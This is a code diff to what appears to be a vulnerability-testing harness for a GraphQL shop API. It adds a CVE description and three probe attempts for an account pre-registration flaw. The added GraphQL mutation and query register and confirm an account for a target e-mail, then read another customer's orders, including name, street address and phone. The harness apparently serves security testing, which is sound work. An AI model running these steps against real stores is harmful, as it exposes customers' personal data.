@@ -36,6 +36,7 @@ LINES: Mapping[str, str] = {
     "CVE-2026-35401": "unlimited aliases",
     "CVE-2026-35407": "the token that changes an e-mail is not bound to its user",
     "CVE-2026-39851": "the answer tells whether an e-mail has an account",
+    "CVE-2026-44472": "an account made beforehand receives a guest's orders",
     "CVE-2026-23499": "SVG and HTML are stored as images",
     "CVE-2022-0932": "missing authorization; the advisory names no endpoint",
     "introspection": "introspection is open with DEBUG off",
@@ -229,6 +230,29 @@ ATTEMPTS: tuple[Attempt, ...] = (
         "CVE-2026-39851",
         Refusal.UNKNOWN,
         asked(LOGIN_HINTS["register"], _email),
+    ),
+    Attempt(
+        "account-made-beforehand",
+        "CVE-2026-44472",
+        Refusal.UNKNOWN,
+        asked(LOGIN_HINTS["register"], _email),
+    ),
+    Attempt(
+        "account-confirmed",
+        "CVE-2026-44472",
+        Refusal.UNKNOWN,
+        asked(
+            """mutation ($email: String!, $token: String!) {
+  confirmAccount(email: $email, token: $token) { accountErrors { field code } } }""",
+            lambda targets: {"email": targets.email, "token": targets.token},
+        ),
+    ),
+    Attempt(
+        "somebodys-orders-as-ones-own",
+        "CVE-2026-44472",
+        Refusal.UNKNOWN,
+        asked("""{ me { orders(first: 5) { edges { node {
+  userEmail shippingAddress { firstName streetAddress1 phone } } } } } }"""),
     ),
     Attempt(
         "html-as-image",
